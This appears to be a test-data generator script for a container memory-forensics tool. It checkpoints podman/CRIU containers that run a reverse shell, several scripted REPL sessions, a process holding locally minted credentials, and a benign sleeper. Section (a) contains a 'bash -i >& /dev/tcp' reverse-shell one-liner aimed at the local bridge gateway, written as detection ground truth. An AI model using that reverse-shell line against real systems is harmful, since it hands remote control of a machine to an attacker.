#!/bin/bash
# Lab ground truth for `stasis memory artefacts` (issue 18): real podman + runc + CRIU checkpoints.
#   testdata/checkpoints/artefacts/make.sh OUTDIR [shell|python|perl|credentials|benign ...]   (default: all)
# Needs podman, runc, criu >= 4.2, localhost/base:12 (shared/docs/lab.md), python3 and openssl on the host.
# Traffic stays on this machine: the operator listens on the podman bridge gateway 10.88.0.1.
# Every archive gets a transcript next to it: what the operator typed (*.typed) or planted (*.planted).
set -euo pipefail
OUT=$(realpath -m "$1"); mkdir -p "$OUT"; shift
WANT=" ${*:-shell python perl node credentials benign} "
want() { [[ "$WANT" == *" $1 "* ]]; }
HERE=$(cd "$(dirname "$0")" && pwd)
P="podman --runtime runc"
RUN="$P run -d --ulimit nofile=1024:1024 --ulimit nproc=1024:1024"
GW=10.88.0.1
BG=""
cleanup() { $P rm -f art-rsh art-rsh-ts art-py art-perl art-node art-cred art-benign >/dev/null 2>&1 || true; for p in $BG; do kill "$p" 2>/dev/null || true; done; }
trap cleanup EXIT
checkpoint() { $P container checkpoint --tcp-established --compress zstd --export="$OUT/$2" "$1" >/dev/null; $P rm -f "$1" >/dev/null; }

# (a) reverse shell: bash -i on a TCP socket; the operator types known commands, one every 0.4 s
reverse_shell() { # name port outfile [env...]
  local name=$1 port=$2 out=$3; shift 3
  python3 "$HERE/operator.py" $GW "$port" "$OUT/$out.typed" "$OUT/$out.session" & local op=$!; BG="$BG $op"
  sleep 1
  $RUN --name "$name" "$@" --entrypoint /bin/bash localhost/base:12 -c "exec bash -i >& /dev/tcp/$GW/$port 0>&1" >/dev/null
  while [ ! -s "$OUT/$out.session" ] || ! grep -q '^done' "$OUT/$out.session"; do sleep 0.5; done
  checkpoint "$name" "$out"
  kill $op 2>/dev/null || true
}
want shell && reverse_shell art-rsh 4471 reverse-shell.tar.zst
want shell && reverse_shell art-rsh-ts 4472 reverse-shell-histtime.tar.zst -e 'HISTTIMEFORMAT=%F %T '

# (b) python REPL (host's python3.11 bind-mounted; the image has none) with known lines typed through a pty
if want python; then
PYMOUNTS="-v /usr/bin/python3.11:/usr/bin/python3.11:ro -v /usr/lib/python3.11:/usr/lib/python3.11:ro
 -v /usr/lib/x86_64-linux-gnu/libexpat.so.1:/usr/lib/x86_64-linux-gnu/libexpat.so.1:ro
 -v /usr/lib/x86_64-linux-gnu/libreadline.so.8:/usr/lib/x86_64-linux-gnu/libreadline.so.8:ro
 -v $HERE/pty-typist.pl:/typist.pl:ro"
$RUN --name art-py $PYMOUNTS -e TERM=dumb --entrypoint /usr/bin/perl localhost/base:12 /typist.pl /usr/bin/python3.11 -q >/dev/null
sleep 6
$P logs art-py > "$OUT/python-repl.tar.zst.session" 2>&1 || true
cp "$HERE/python-repl.typed" "$OUT/python-repl.tar.zst.typed"
checkpoint art-py python-repl.tar.zst
fi

# (b2) perl debugger REPL (perl -de 0): the image has perl-base only, so the host's perl-modules-5.36
# (perl5db.pl, Term::ReadLine; same perl 5.36.0 as the image) is bind-mounted read-only. No
# Term::ReadLine::Gnu, so the debugger uses Term::ReadLine::Stub and keeps its lines in @DB::hist.
# TTY=/proc/self/fd/0: by default perl5db opens /dev/tty, which CRIU refuses to dump ("ctty inheritance").
if want perl; then
$RUN --name art-perl -v /usr/share/perl/5.36:/usr/share/perl/5.36:ro -v "$HERE/pty-typist.pl:/typist.pl:ro" \
  -v "$HERE/perl-debugger.typed:/typed:ro" -e TERM=dumb -e TYPIST_LINES=/typed -e PERLDB_OPTS=TTY=/proc/self/fd/0 \
  --entrypoint /usr/bin/perl localhost/base:12 /typist.pl /usr/bin/perl -de 0 >/dev/null
sleep 8
$P logs art-perl > "$OUT/perl-debugger.tar.zst.session" 2>&1 || true
cp "$HERE/perl-debugger.typed" "$OUT/perl-debugger.tar.zst.typed"
checkpoint art-perl perl-debugger.tar.zst
fi

# (b3) node REPL: Debian's nodejs in an image of its own (localhost/lab-node:12, built here from
# localhost/base:12 when missing); node keeps the REPL's lines in its V8 heap (the readline
# interface's history array), not in GNU readline. NODE_REPL_HISTORY='' keeps them off the disk.
if want node; then
if ! $P image exists localhost/lab-node:12; then
  $P build --ulimit nofile=1024:1024 --ulimit nproc=1024:1024 -t localhost/lab-node:12 -f "$HERE/node.Containerfile" "$HERE" >/dev/null
fi
$RUN --name art-node -v "$HERE/pty-typist.pl:/typist.pl:ro" -v "$HERE/node-repl.typed:/typed:ro" -e TERM=dumb -e TYPIST_LINES=/typed \
  -e NODE_REPL_HISTORY= --entrypoint /usr/bin/perl localhost/lab-node:12 /typist.pl /usr/bin/node >/dev/null
sleep 9
$P logs art-node > "$OUT/node-repl.tar.zst.session" 2>&1 || true
cp "$HERE/node-repl.typed" "$OUT/node-repl.tar.zst.typed"
checkpoint art-node node-repl.tar.zst
fi

# (c) credentials: a projected-style service-account token (file + env), an AWS key pair, a postgres URL,
# a basic-auth git URL, an SSH private key and a GCP service-account key, all minted here
if want credentials; then
python3 "$HERE/mint.py" "$OUT/cred" > "$OUT/credentials.tar.zst.planted"
$RUN --name art-cred -v "$OUT/cred/sa:/var/run/secrets/kubernetes.io/serviceaccount:ro" -v "$OUT/cred/home:/secrets:ro" \
  --env-file "$OUT/cred/env" --entrypoint /usr/bin/perl localhost/base:12 -e '
    sub slurp { open(my $f, "<", $_[0]) or die "$_[0]: $!"; local $/; my $d = <$f>; close $f; $d }
    my $token = slurp("/var/run/secrets/kubernetes.io/serviceaccount/token");
    my $key = slurp("/secrets/id_ed25519");
    my $gcp = slurp("/secrets/gcp.json");
    my $git = "remote: " . $ENV{GIT_REMOTE};
    $0 = "billing-worker"; sleep 86400' >/dev/null
sleep 2
checkpoint art-cred credentials.tar.zst
rm -rf "$OUT/cred"
fi

# (d) benign: a shell script that sleeps, nothing typed, no secrets
if want benign; then
$RUN --name art-benign --entrypoint /bin/bash localhost/base:12 -c 'for i in 1 2 3; do echo tick $i; done; exec sleep 86400' >/dev/null
sleep 2
checkpoint art-benign benign-sleep.tar.zst
fi
ls -la "$OUT"
